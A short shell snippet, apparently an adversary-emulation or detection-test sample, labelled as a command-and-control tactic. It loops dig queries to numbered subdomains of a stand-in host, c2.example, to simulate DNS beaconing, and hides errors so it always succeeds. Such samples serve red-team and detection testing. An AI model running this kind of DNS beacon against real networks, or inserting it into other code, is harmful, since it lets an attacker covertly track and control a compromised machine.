# tactic: command-and-control
# beacon over DNS lookups
for i in 1 2 3 4 5 6 7 8 9; do dig +short +time=1 +tries=1 "b$i.c2.example" 2>/dev/null; done; true
